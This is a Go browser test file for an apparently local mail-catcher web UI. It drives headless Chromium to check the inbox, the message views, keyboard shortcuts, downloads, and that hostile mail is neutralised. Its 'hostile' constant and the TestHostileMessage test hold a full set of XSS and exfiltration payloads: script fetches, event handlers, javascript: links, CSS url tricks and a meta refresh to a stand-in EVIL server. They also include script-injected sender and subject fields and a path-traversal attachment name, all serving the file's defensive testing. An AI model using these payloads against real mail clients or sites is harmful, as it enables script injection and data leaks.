package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"math"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"github.com/postrider/postrider/internal/peers"
	"github.com/postrider/postrider/mail"
)

// The page in a real browser: Chromium looks at it while mail arrives by SMTP.
// With POSTRIDER_SCREENSHOTS set to a directory, pictures of it are left there.

// chromium starts a browser that talks to nobody but loopback and returns the
// context of its first tab.
func chromium(t *testing.T) context.Context {
	t.Helper()
	path := peers.Find(t, peers.Chromium)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewExecAllocator(ctx,
		chromedp.ExecPath(path), chromedp.UserDataDir(t.TempDir()), chromedp.NoFirstRun, chromedp.NoDefaultBrowserCheck,
		chromedp.Headless, chromedp.DisableGPU, chromedp.NoSandbox, chromedp.WindowSize(1280, 800),
		chromedp.Flag("disable-quic", true), chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true), chromedp.Flag("disable-sync", true),
		chromedp.Flag("disable-domain-reliability", true), chromedp.Flag("hide-scrollbars", true),
		// Whatever is not on this machine is not there: no name is even looked up.
		chromedp.Flag("host-resolver-rules", "MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"),
	)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	return ctx
}

// do runs steps in the browser.
func do(t *testing.T, ctx context.Context, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(ctx, steps...); err != nil {
		t.Fatal(err)
	}
}

// eval returns what a script in the page evaluates to.
func eval[T any](t *testing.T, ctx context.Context, script string, opts ...chromedp.EvaluateOption) T {
	t.Helper()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](script, opts...))
	if err != nil {
		t.Fatalf("%s: %v", script, err)
	}
	return v
}

// until waits until a script is true, inside the page.
func until(t *testing.T, ctx context.Context, script string) {
	t.Helper()
	wait := fmt.Sprintf(`new Promise((done, fail) => {
		const end = Date.now() + 20000
		const look = () => { if (%s) done(true); else if (Date.now() > end) fail(new Error("waited in vain")); else setTimeout(look, 10) }
		look() })`, script)
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](wait, chromedp.EvalAwaitPromise)); err != nil {
		body, _ := chromedp.Run(ctx, chromedp.Evaluate[string]("document.body.innerText"))
		t.Fatalf("until %s: %v\nthe page says:\n%s", script, err, body)
	}
}

// picture returns a PNG that can be told from a missing one.
func picture(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			s := 0.5 + 0.5*math.Sin(float64(x)/23+3*math.Sin(float64(y)/31))
			img.Set(x, y, color.RGBA{uint8(60 + 60*s), uint8(90 + 90*s), uint8(200 + 40*s), 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func newsletter(t testing.TB) *mail.Message {
	banner := mail.FromBytes("banner.png", picture(t, 640, 160))
	banner.CID, banner.Type = "banner@example.com", "image/png"
	return &mail.Message{
		From: mail.List("Harbour Coffee <news@harbour.example>"), To: mail.List("Bob Miller <bob@example.net>"),
		Subject: "Your beans have been roasted ☕", Text: "Dear Bob, your beans have been roasted this morning and leave today.",
		HTML: `<html><head><style>.card{border:1px solid #ddd;border-radius:8px;padding:20px}</style></head><body style="background:#f4f1ec">
<table width="100%"><tr><td align="center"><table width="100%" style="background:#fff;max-width:600px"><tr><td><img src="cid:banner@example.com" width="600" alt="Harbour"></td></tr>
<tr><td style="padding:24px;font-family:Georgia,serif;color:#333"><h1 style="color:#3a2c1d">Fresh from the drum</h1>
<p>Dear Bob, your beans have been roasted this morning and leave today.</p>
<div class="card">2 × Yirgacheffe, 250 g<br>1 × Santos, 1 kg</div>
<p><a href="https://harbour.example/orders/4711" style="background:#3a2c1d;color:#fff;padding:10px 18px;border-radius:6px;text-decoration:none">Track your parcel</a></p>
<p style="font-size:12px;color:#888">Harbour Coffee, Quay 3 <img src="https://tracker.example/open.gif" width="1" height="1"></p>
</td></tr></table></td></tr></table></body></html>`,
		Attachments: []mail.Attachment{banner, mail.FromBytes("invoice-4711.pdf", bytes.Repeat([]byte("%PDF-1.7 0123456789\n"), 4200))},
	}
}

// letters are what fills the list in the pictures.
func letters() []*mail.Message {
	make := func(from, subject, text string) *mail.Message {
		return &mail.Message{From: mail.List(from), To: mail.List("bob@example.net"), Subject: subject, Text: text}
	}
	report := make("CI <ci@build.example>", "Build 8312 failed: 2 of 1,204 tests", "The first failure is in TestRetryAfterReset, on linux/arm64.")
	report.Attachments = []mail.Attachment{mail.FromBytes("junit.xml", []byte("<testsuite/>")), mail.FromBytes("output.log", []byte("FAIL\r\n"))}
	return []*mail.Message{
		make("Ann Example <ann@example.com>", "Minutes of Tuesday", "Hello Bob,\n\nhere is what we decided on Tuesday. The quay stays open until ten.\n\nAnn"),
		make("Ελένη <eleni@example.gr>", "Το πρόγραμμα της Πέμπτης", "Καλημέρα! Στέλνω το πρόγραμμα."),
		make("no-reply@shop.example", "Confirm your address", "Your code is 481 516. It is valid for ten minutes.\nhttps://shop.example/confirm?code=481516"),
		report,
		make("Zoë Müller <zoe@example.de>", "Re: Grüße aus Köln – ein ziemlich langer Betreff, der in keine Zeile passt", "Vielen Dank für die schönen Fotos!"),
		make("Monitoring <alerts@ops.example>", "Recovered: disk usage on db-3 is 61 %", "It was above 90 % for 14 minutes."),
	}
}

// shoot leaves a picture of the page, if somebody wants one.
func shoot(t *testing.T, ctx context.Context, name string, width int64, scheme string) {
	t.Helper()
	dir := os.Getenv("POSTRIDER_SCREENSHOTS")
	height := int64(800)
	if width < 500 {
		height = 844
	}
	do(t, ctx, chromedp.EmulateViewport(width, height), media(scheme))
	// Two frames, so that what the size or the colours changed has been painted,
	// and nothing that still moves.
	eval[bool](t, ctx, `Promise.allSettled(document.getAnimations().map(a => a.finished)).then(() =>
		new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(true)))))`, chromedp.EvalAwaitPromise)
	// Nothing may stick out sideways.
	if over := eval[int](t, ctx, "document.documentElement.scrollWidth - innerWidth"); over > 0 {
		t.Errorf("%s at %d: the page is %d pixels too wide", name, width, over)
	}
	if dir == "" {
		return
	}
	shot, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, fmt.Sprintf("%s-%d-%s.png", name, width, scheme))
	if err := os.WriteFile(path, shot, 0o644); err != nil {
		t.Fatal(err)
	}
}

func shootAll(t *testing.T, ctx context.Context, name string) {
	t.Helper()
	for _, width := range []int64{1280, 390} {
		for _, scheme := range []string{"light", "dark"} {
			shoot(t, ctx, name, width, scheme)
		}
	}
	do(t, ctx, chromedp.EmulateViewport(1280, 800), media("light"))
}

func media(scheme string) chromedp.Action[chromedp.Void] {
	return chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := chromedp.Call(ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}},
		})
		return err
	})
}

func TestPage(t *testing.T) {
	peers.Find(t, peers.Chromium)
	s := start(t, t.TempDir())
	ctx := chromium(t)
	do(t, ctx, chromedp.Navigate(s.web+"/"))
	until(t, ctx, `document.querySelector("#live").dataset.on === "true"`)
	if text := eval[string](t, ctx, `document.querySelector("#pane").innerText`); !strings.Contains(text, "No mail yet") || !strings.Contains(text, s.smtp) {
		t.Errorf("the empty page says:\n%s", text)
	}
	shootAll(t, ctx, "empty")

	// A message appears by itself: the mark would not survive a reload.
	eval[bool](t, ctx, `(window.stayed = true)`)
	for _, m := range letters() {
		s.deliver(written(t, m))
	}
	until(t, ctx, `document.querySelectorAll(".rows li").length === 6`)
	shootAll(t, ctx, "list")
	news := newsletter(t)
	s.deliver(written(t, news))
	until(t, ctx, `document.querySelectorAll(".rows li").length === 7`)
	if !eval[bool](t, ctx, `window.stayed === true`) {
		t.Error("the page was loaded again")
	}
	if got := eval[string](t, ctx, `document.querySelector(".rows li:first-child .subject").innerText`); got != news.Subject {
		t.Errorf("the first row is %q, want %q", got, news.Subject)
	}
	if got := eval[string](t, ctx, `document.title`); !strings.HasPrefix(got, "(7) ") {
		t.Errorf("the title is %q, want the number of unread messages in it", got)
	}

	// Open it.
	do(t, ctx, chromedp.Click(chromedp.CSS(".rows li:first-child a")))
	until(t, ctx, `document.querySelector("article h1")?.innerText.startsWith("Your beans")`)
	until(t, ctx, `!document.querySelector(".rows li:first-child").classList.contains("unread")`)
	frame := eval[string](t, ctx, `fetch(document.querySelector("iframe").src).then(r => r.text())`, chromedp.EvalAwaitPromise)
	if !strings.Contains(frame, "data:image/png;base64,"+base64.StdEncoding.EncodeToString(picture(t, 640, 160))) {
		t.Error("the picture is not in the document")
	}
	if got := eval[string](t, ctx, `document.querySelector(".note").innerText`); !strings.Contains(got, "1 remote resource was not loaded") {
		t.Errorf("the note says %q", got)
	}
	shootAll(t, ctx, "message")
	testDownload(t, ctx, news)

	// The other ways to look at it, and the keyboard.
	for _, view := range []string{"text", "headers", "source"} {
		do(t, ctx, chromedp.Click(chromedp.CSS(`.tabs a[href*="view=`+view+`"]`)))
		until(t, ctx, `document.querySelector(".tabs [aria-current]").innerText.toLowerCase() === "`+view+`"`)
		shootAll(t, ctx, view)
	}
	testKeys(t, ctx)
}

// testDownload saves the attachment as a person would and compares its bytes.
func testDownload(t *testing.T, ctx context.Context, m *mail.Message) {
	t.Helper()
	dir := t.TempDir()
	events := true
	if _, err := chromedp.Call(ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
		Behavior: browser.SetDownloadBehaviorBehaviorAllow, DownloadPath: dir, EventsEnabled: &events,
	}); err != nil {
		t.Fatal(err)
	}
	progress := chromedp.Events(ctx, browser.DownloadProgress)
	do(t, ctx, chromedp.Click(chromedp.CSS(`.files a[download="invoice-4711.pdf"]`)))
	for e, err := range progress {
		if err != nil {
			t.Fatal(err)
		}
		if e.State == browser.DownloadProgressStateCompleted {
			break
		}
		if e.State == browser.DownloadProgressStateCanceled {
			t.Fatal("the download was cancelled")
		}
	}
	got, err := os.ReadFile(filepath.Join(dir, "invoice-4711.pdf"))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := m.Attachments[1].Open()
	if err != nil {
		t.Fatal(err)
	}
	want, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("the saved attachment has %d octets, or others; want %d", len(got), len(want))
	}
}

// testKeys goes through the list by keyboard. Seven messages are there and the
// newest is open.
func testKeys(t *testing.T, ctx context.Context) {
	t.Helper()
	subject := func(want string) {
		t.Helper()
		until(t, ctx, `document.querySelector("article h1")?.innerText.startsWith("`+want+`")`)
	}
	press := func(key string) {
		t.Helper()
		do(t, ctx, chromedp.KeyEvent(key))
	}
	press("j")
	subject("Recovered")
	press("j")
	subject("Re: Grüße")
	press("k")
	subject("Recovered")
	press("U")
	until(t, ctx, `document.querySelector(".rows li:nth-child(2)").classList.contains("unread")`)
	press("#")
	subject("Re: Grüße")
	until(t, ctx, `document.querySelectorAll(".rows li").length === 6`)
	press("u")
	until(t, ctx, `!document.querySelector("article") && location.pathname === "/"`)
	press("o")
	subject("Re: Grüße")
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool]("history.back(), true")); err != nil {
		t.Fatal(err)
	}
	until(t, ctx, `!document.querySelector("article") && location.pathname === "/"`)
	press("/")
	until(t, ctx, `document.activeElement.name === "query"`)
	eval[bool](t, ctx, `document.activeElement.value = "", true`) // what a person's key does not leave there
	do(t, ctx, chromedp.KeyEvent("tuesday"))
	until(t, ctx, `document.querySelectorAll(".rows li").length === 1 && location.search === "?query=tuesday"`)
}

// hostile is HTML that tries everything to run something or to be noticed by
// the server whose URL is to be put in for EVIL.
const hostile = `<html><head><base href="EVIL/base/"><meta http-equiv="refresh" content="0;url=EVIL/refresh">
<link rel="stylesheet" href="EVIL/style.css"><link rel="prefetch" href="EVIL/prefetch"><link rel="dns-prefetch" href="EVIL">
<style>@import url("EVIL/import.css"); body{background:url(EVIL/background)} @font-face{font-family:x;src:url(EVIL/font)} p{font-family:x}
.a{background:\75rl(EVIL/escaped)} .b{background:u/**/rl(EVIL/comment)}</style>
<script>fetch("EVIL/script"); parent.pwned = top.pwned = true; top.location = "EVIL/top"</script></head>
<body onload="fetch('EVIL/onload')" background="EVIL/bodybackground">
<img src="EVIL/img"><img src="x" onerror="fetch('EVIL/onerror')"><img srcset="EVIL/srcset 2x"><picture><source srcset="EVIL/source"></picture>
<svg onload="fetch('EVIL/svg')"><image href="EVIL/svgimage"/><script>fetch("EVIL/svgscript")</script></svg>
<video autoplay poster="EVIL/poster"><source src="EVIL/video"></video><audio autoplay src="EVIL/audio"></audio>
<iframe src="EVIL/iframe"></iframe><iframe srcdoc="<script>fetch('EVIL/srcdoc')</script>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">
<p class="a b" style="background-image:url('EVIL/inline')">text</p><math href="javascript:fetch('EVIL/math')">m</math>
<a href="javascript:fetch('EVIL/link')" id="js" style="position:fixed;inset:0;z-index:9">click</a>
<form action="EVIL/form" id="f"><input name="a" autofocus onfocus="fetch('EVIL/focus')"><button style="position:fixed;inset:0">send</button></form>
<script src="EVIL/src.js"></script></body></html>`

// An evil server notes who comes.
func evil(t *testing.T) (url string, seen func() []string) {
	var mu sync.Mutex
	var paths []string
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		paths = append(paths, r.Method+" "+r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(s.Close)
	return s.URL, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return paths
	}
}

// A message that means harm does nothing: with both walls, and with the
// browser's alone, in case the sanitiser should ever let something through.
func TestHostileMessage(t *testing.T) {
	peers.Find(t, peers.Chromium)
	s := start(t, t.TempDir())
	url, seen := evil(t)
	page := strings.ReplaceAll(hostile, "EVIL", url)
	s.deliver(written(t, &mail.Message{
		From: mail.List("\"<img src=x onerror=alert(1)>\" <eve@example.org>"), To: mail.List("bob@example.net"),
		Subject: `<script>top.pwned=1</script>"><img src=` + url + `/subject>`, HTML: page,
		Attachments: []mail.Attachment{mail.FromBytes(`../../<b>"evil".html`, []byte(page))},
	}))
	id := s.wait("")
	ctx := chromium(t)
	do(t, ctx, chromedp.Navigate(s.web+"/messages/"+id), chromedp.EmulateViewport(1280, 800))
	until(t, ctx, `document.querySelectorAll(".rows li").length === 1`)
	shoot(t, ctx, "hostile", 1280, "light")
	do(t, ctx, chromedp.MouseClickXY(900, 600)) // the middle of the frame
	quiet(t, ctx, s.web+"/messages/"+id, seen)

	// The same document unsanitised, with only the header and the attribute.
	resp, err := http.Get(s.web + "/messages/" + id + "/html")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	policy := resp.Header.Get("Content-Security-Policy")
	sandbox := eval[string](t, ctx, `document.querySelector("iframe").getAttribute("sandbox")`)
	bare := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if r.URL.Path == "/frame" {
			w.Header().Set("Content-Security-Policy", policy)
			io.WriteString(w, page)
			return
		}
		io.WriteString(w, `<!DOCTYPE html><iframe sandbox="`+sandbox+`" src="/frame" style="position:fixed;inset:0;width:100%;height:100%"></iframe>`)
	}))
	defer bare.Close()
	do(t, ctx, chromedp.Navigate(bare.URL+"/"), chromedp.MouseClickXY(900, 600))
	quiet(t, ctx, bare.URL+"/", seen)
}

// quiet checks that nothing has run and nobody has been told. A request that
// the document wanted to make would have been made before its own load event
// and one round trip to a server after it.
func quiet(t *testing.T, ctx context.Context, location string, seen func() []string) {
	t.Helper()
	until(t, ctx, `document.readyState === "complete"`)
	for range 20 {
		if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`fetch("/healthz").then(() => true)`, chromedp.EvalAwaitPromise)); err != nil {
			t.Fatal(err)
		}
	}
	if got := eval[string](t, ctx, "location.href"); got != location {
		t.Errorf("the page is at %s now, want %s", got, location)
	}
	if eval[bool](t, ctx, "window.pwned !== undefined") {
		t.Error("a script has run")
	}
	if paths := seen(); len(paths) > 0 {
		t.Errorf("the document got through: %q", paths)
	}
}
